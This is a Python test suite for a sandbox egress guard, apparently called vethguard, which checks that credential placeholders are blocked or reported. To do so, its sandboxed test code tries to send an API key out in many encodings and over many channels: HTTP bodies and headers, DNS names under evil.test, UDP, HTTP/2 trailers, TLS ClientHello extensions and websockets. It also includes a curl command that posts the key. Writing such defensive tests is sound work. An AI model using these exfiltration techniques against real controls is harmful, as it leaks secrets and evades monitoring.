# SPDX-License-Identifier: Apache-2.0
"""A placeholder is sent where it does not belong: vethguard finds it in every form and on every way out, and the upstream gets no whole
placeholder unless the policy says on_leak: alert. What is no placeholder passes."""
import base64
import gzip
import json
import unittest

import support
from support import file_credential, policy, wait_until

FINDING, FLOW = 2004, 4001
RULES = ("{to: 'https://api.lab.test', credential: api}", "https://www.lab.test", "https://*.wild.lab.test", "{to: 'http://plain.lab.test'}",
         "tcp://tcp.lab.test:2222", "udp://udp.lab.test:1234", "{to: 'https://pass.lab.test', tls: passthrough}")
KEY = """import os, base64, gzip, urllib.parse
k = os.environ['API_KEY']
def post(host, path, body, *fields):
    return fetch(host, path, method='POST', body=body, fields=(f'Content-Length: {len(body)}', *fields))[0]
"""


def forms(key):
    """Returns every form of the key that is found: {name: bytes}."""
    raw = key.encode()
    out = {"plain": raw, "hex": raw.hex().encode(), "upper hex": raw.hex().upper().encode(), "percent": "".join(f"%{b:02x}" for b in raw).encode(),
           "some percent": raw.replace(b"-", b"%2D"), "json": "".join(f"\\u{b:04x}" for b in raw).encode(), "json slash": raw.replace(b"-", b"\\u002d")}
    for lead in range(3):
        out[f"base64 {lead}"] = base64.b64encode(b"x" * lead + raw)
        out[f"base64url {lead}"] = base64.urlsafe_b64encode(b"\xfb" * lead + raw + b"\xff\xfe")
    return out


class Tripwires(support.Case):
    def box(self, more=""):
        box = support.Sandbox(policy(*RULES, credentials=file_credential(), more=more))
        self.addCleanup(box.close)
        return box

    def findings(self, box):
        return [e for e in box.events(FINDING) if "placeholder-leak" in json.dumps(e)]


class Blocks(Tripwires):
    def test_every_form_in_a_body(self):
        """Each form, in a body that is whole, in chunks of 7 bytes or in gzip: the upstream gets no whole placeholder."""
        box = self.box()
        key = box.sh("printf %s $API_KEY").out
        cases = {}
        for name, text in forms(key).items():
            for way in ("whole", "cut", "gzip"):
                body = b"{\"a\": \"" + text + b"\", \"b\": 1}"
                if way == "gzip":
                    body = gzip.compress(body)
                fields = ", 'Content-Encoding: gzip'" if way == "gzip" else ""
                cases[f"{name} {way}"] = f"post('www.lab.test', '/leak', {body!r}{fields})" if way != "cut" else \
                    f"chunked('www.lab.test', '/leak', {[body[i:i + 7] for i in range(0, len(body), 7)]!r})"
        got = self.run_all_with_helpers(box, cases)
        self.assertEqual({v for v in got.values()}, {"403"}, got)
        self.assertTrue(wait_until(lambda: len(self.findings(box)) == len(cases), 5 * support.SLOW), (len(self.findings(box)), len(cases)))
        sent = b"".join(json.dumps(r).encode() for r in self.seen("http", path="/leak"))
        for name, text in forms(key).items():
            self.assertNotIn(text.decode(), sent.decode(), name)

    def run_all_with_helpers(self, box, cases):
        helper = """
def chunked(host, path, pieces):
    s = tls(host)
    s.sendall(f'POST {path} HTTP/1.1\\r\\nHost: {host}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n'.encode())
    try:
        for p in pieces:
            s.sendall(b'%x\\r\\n' % len(p) + p + b'\\r\\n')
        s.sendall(b'0\\r\\n\\r\\n')
    except OSError:
        pass
    return Reader(s).response()[0]
"""
        code = KEY + helper + "import json\nresults = {}\n" + "".join(
            f"try:\n results[{name!r}] = str({code})\nexcept Exception as e:\n results[{name!r}] = 'E:' + repr(e)\n" for name, code in cases.items())
        out = box.py(code + "print(json.dumps(results))", timeout=120)
        return json.loads(out.out.splitlines()[-1])

    def test_every_place_in_a_head(self):
        box = self.box()
        key = box.sh("printf %s $API_KEY").out
        cases = {}
        for name, text in forms(key).items():
            t = text.decode().replace("\\", "%5C")
            cases[name + " query"] = f"fetch('www.lab.test', '/leak?a=1&b=' + {t!r})[0]"
            cases[name + " field"] = f"fetch('www.lab.test', '/leak', fields=('X-A: ' + {text.decode()!r},))[0]"
        cases["agent"] = "fetch('www.lab.test', '/leak', fields=('User-Agent: x' + k,))[0]"
        cases["cookie"] = "fetch('www.lab.test', '/leak', fields=('Cookie: a=b; c=' + k,))[0]"
        cases["parameter"] = "fetch('www.lab.test', '/leak?' + k + '=1')[0]"
        cases["plain http"] = "fetch('plain.lab.test', '/leak', port=80, plain=True, fields=('X: ' + k,))[0]"
        cases["host"] = "fetch(k.replace('_', '-') + '.wild.lab.test', '/leak')[0]"
        del cases["json query"], cases["json slash query"]  # a query has no backslash
        got = self.run_all_with_helpers(box, cases)
        self.assertEqual({n: v for n, v in got.items() if v != "403"}, {})
        self.assertEqual([r["path"] for r in self.seen("http") if r["path"].startswith("/leak")], [])
        events = [e for e in box.events(4002) if e["status_code"] == "leak"]
        self.assertEqual(len(events), len(cases))

    def test_the_answer_says_what_to_do(self):
        box = self.box()
        r = box.sh("curl -sS -d \"k=$API_KEY\" https://www.lab.test/leak").out
        self.assertIn("a credential's placeholder was sent where it does not belong", r)
        self.assertIn("Leave the value of the key's variable out", r)

    def test_names(self):
        """A DNS query for a name with a placeholder never leaves, and is reported."""
        box = self.box()
        box.py(KEY + "import socket\nfor n in (k + '.evil.test', k[:20] + '.' + k[20:] + '.evil.test', k.encode().hex()[:60] + '.' + k.encode().hex()[60:] + '.evil.test'):\n"
               " try: socket.getaddrinfo(n, 443)\n except OSError: pass\n")
        self.assertTrue(wait_until(lambda: len([e for e in self.findings(box) if "DNS query" in json.dumps(e)]) >= 3, 5 * support.SLOW), box.events())

    def test_tunnels_and_datagrams(self):
        box = self.box()
        out = box.py(KEY + "import socket\ns = socket.create_connection(('tcp.lab.test', 2222), 10)\n"
                     "try:\n s.sendall(b'hello ' + k.encode())\n print(s.recv(100))\nexcept OSError as e: print('reset')\n"
                     "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.settimeout(1)\nu.connect(('udp.lab.test', 1234))\n"
                     "for p in (k.encode(), base64.b64encode(k.encode()), k.encode().hex().encode()):\n u.send(b'a' + p)\n"
                     "try: print(u.recv(100))\nexcept OSError: print('nothing')\nu.send(b'fine')\nprint(u.recv(100))", timeout=60)
        self.assertRegex(out.out, r"(?s)reset|b''")
        self.assertIn("nothing", out.out)
        self.assertIn("fine", out.out)
        self.assertTrue(wait_until(lambda: len(self.findings(box)) == 2, 5 * support.SLOW), self.findings(box))

    def test_trailers(self):
        """Behind a body, over HTTP/1.1 and HTTP/2: in a value in every form, and in a name."""
        box = self.box()
        key = box.sh("printf %s $API_KEY").out
        cases = {}
        for name, text in {**forms(key), "a name": key.encode()}.items():
            row = (text.decode(), "x") if name == "a name" else ("x-last", text.decode())
            cases[name + " 1.1"] = f"trailing('www.lab.test', '/trailed', {row!r})"
            cases[name + " 2"] = f"trailing2('www.lab.test', '/trailed', {row!r})"
        helper = """
def trailing(host, path, row):
    s = tls(host)
    s.sendall(request('POST', path, host, 'Transfer-Encoding: chunked', 'Trailer: X-Last') + b'4\\r\\nbody\\r\\n0\\r\\n' + f'{row[0]}: {row[1]}\\r\\n\\r\\n'.encode())
    return Reader(s).response()[0]
def block(*rows):
    return b''.join(b'\\0' + bytes([len(n)]) + n.encode() + (bytes([len(v)]) if len(v) < 127 else bytes([127, len(v) - 127]) if len(v) < 255 else
                    bytes([127, (len(v) - 127) % 128 | 128, (len(v) - 127) // 128])) + v.encode() for n, v in rows)
def frame(kind, flags, payload):
    return len(payload).to_bytes(3, 'big') + bytes([kind, flags, 0, 0, 0, kind != 4]) + payload
def trailing2(host, path, row):
    s = tls(host, alpn=('h2',))
    s.sendall(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + frame(4, 0, b'') + frame(1, 4, block((':method', 'POST'), (':scheme', 'https'), (':path', path), (':authority', host)))
              + frame(0, 0, b'body') + frame(1, 5, block(row)))
    s.settimeout(20)
    data = b''
    while True:  # until the response's head, or the end of stream or connection
        while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], 'big'):
            n, kind, payload = int.from_bytes(data[:3], 'big'), data[3], data[9:9 + int.from_bytes(data[:3], 'big')]
            if kind in (1, 3, 7):
                return 'answered' if kind == 1 else 'ended'
            data = data[9 + n:]
        piece = s.recv(65536)
        if not piece:
            return 'ended'
        data += piece
"""
        code = KEY + helper + "import json\nresults = {}\n" + "".join(
            f"try:\n results[{name!r}] = str({code})\nexcept Exception as e:\n results[{name!r}] = 'E:' + repr(e)\n" for name, code in cases.items())
        got = json.loads(box.py(code + "print(json.dumps(results))", timeout=120).out.splitlines()[-1])
        self.assertTrue(wait_until(lambda: len(self.findings(box)) == len(cases), 5 * support.SLOW), (len(self.findings(box)), len(cases), got))
        sent = json.dumps(self.seen("http"))
        for name, text in forms(key).items():
            self.assertNotIn(text.decode(), sent, name)
        self.assertNotIn("200", got.values(), got)

    def test_a_client_hello(self):
        """In a ClientHello that is passed through: in an extension that nobody knows in every form, and as a protocol (ALPN)."""
        box = self.box()
        key = box.sh("printf %s $API_KEY").out
        cases = {f"extension, {name}": f"hello({text!r})" for name, text in forms(key).items()}
        cases["ALPN"] = "hello(b'', alpn=(k,))"
        helper = """
def hello(text, alpn=('http/1.1',)):
    context = ssl.create_default_context()
    context.set_alpn_protocols(list(alpn))
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    shake = context.wrap_bio(incoming, outgoing, server_hostname='pass.lab.test')
    try:
        shake.do_handshake()
    except ssl.SSLWantReadError:
        pass
    record = bytearray(outgoing.read())
    at = 9 + 2 + 32  # record, handshake, version, random
    at += 1 + record[at]
    at += 2 + int.from_bytes(record[at:at + 2], 'big')
    at += 1 + record[at]
    more = b'\\xff\\xaa' + len(text).to_bytes(2, 'big') + text if text else b''
    for place, size in ((3, 2), (6, 3), (at, 2)):
        record[place:place + size] = (int.from_bytes(record[place:place + size], 'big') + len(more)).to_bytes(size, 'big')
    s = connect('pass.lab.test')
    s.settimeout(20)
    s.sendall(bytes(record) + more)
    try:
        return 'passed' if s.recv(100) else 'ended'
    except ConnectionError:
        return 'ended'
"""
        code = KEY + "import ssl\n" + helper + "import json\nresults = {}\n" + "".join(
            f"try:\n results[{name!r}] = str({code})\nexcept Exception as e:\n results[{name!r}] = 'E:' + repr(e)\n" for name, code in {**cases, "none": "hello(b'nothing')"}.items())
        got = json.loads(box.py(code + "print(json.dumps(results))", timeout=120).out.splitlines()[-1])
        self.assertEqual(got.pop("none"), "passed")
        self.assertEqual(set(got.values()), {"ended"}, got)
        self.assertTrue(wait_until(lambda: len(self.findings(box)) == len(cases), 5 * support.SLOW), (len(self.findings(box)), len(cases)))

    def test_a_websocket(self):
        box = self.box()
        out = box.py(KEY + "s = tls('www.lab.test')\ns.sendall(request('GET', '/ws', 'www.lab.test', 'Connection: Upgrade', 'Upgrade: websocket',"
                     " 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='))\nr = Reader(s)\nprint(r.head()[0])\n"
                     "p = k.encode()\ns.sendall(bytes([0x81, 0x80 | len(p), 0, 0, 0, 0]) + p)\nprint(r.take(4))")
        self.assertIn("101", out.out)
        self.assertIn(repr(b"\x88"[:1])[2:-1], out.out)
        self.assertIn("\\x03\\xf0", out.out)  # close code 1008
        self.assertEqual(len(self.findings(box)), 1)

    def test_what_is_none_passes(self):
        """These pass: the word vethguard, a placeholder that is cut or of another sandbox, and a placeholder sent to its own host."""
        box = self.box()
        key = box.sh("printf %s $API_KEY").out
        rows = [b"vethguard", key[:-1].encode(), b"vethguard-api-0000000000000000", b"76657468677561726400", key[:10].encode().hex().encode(), b"x" * 100000]
        for i, text in enumerate(rows):
            self.assertEqual(box.py(KEY + f"print(post('www.lab.test', '/fine{i}', {text!r}))").out.strip(), "200", text[:40])
        self.assertEqual(box.py(KEY + "print(post('api.lab.test', '/fine', k.encode(), 'Authorization: Bearer ' + k))").out.strip(), "200")
        self.assertEqual(len(self.findings(box)), 1)  # of the last request: it passes, since the host knows the credential

    def test_a_body_that_inflates_to_too_much(self):
        box = self.box()
        out = box.py(KEY + "print(post('www.lab.test', '/bomb', gzip.compress(bytes(64 << 20)), 'Content-Encoding: gzip'))", timeout=60)
        self.assertEqual(out.out.strip(), "403")


class Alerts(Tripwires):
    def test_it_passes_and_is_told(self):
        box = self.box("on_leak: alert\n")
        got = box.py(KEY + "print(fetch('www.lab.test', '/told?k=' + k)[0], post('www.lab.test', '/told', k.encode()),"
                     " post('www.lab.test', '/told', gzip.compress(k.encode().hex().encode()), 'Content-Encoding: gzip'))").out
        self.assertEqual(got.split(), ["200"] * 3)
        self.assertEqual(len(self.seen("http", path="/told")) + len([r for r in self.seen("http") if r["path"].startswith("/told?")]), 3)
        self.assertTrue(wait_until(lambda: len(self.findings(box)) == 3, 5 * support.SLOW))

    def test_observe_lets_it_pass(self):
        box = self.box("mode: observe\n")
        self.assertEqual(box.py(KEY + "print(post('www.lab.test', '/seen', k.encode()))").out.strip(), "200")
        self.assertTrue(wait_until(lambda: len(self.findings(box)) == 1, 5 * support.SLOW))


if __name__ == "__main__":
    unittest.main()
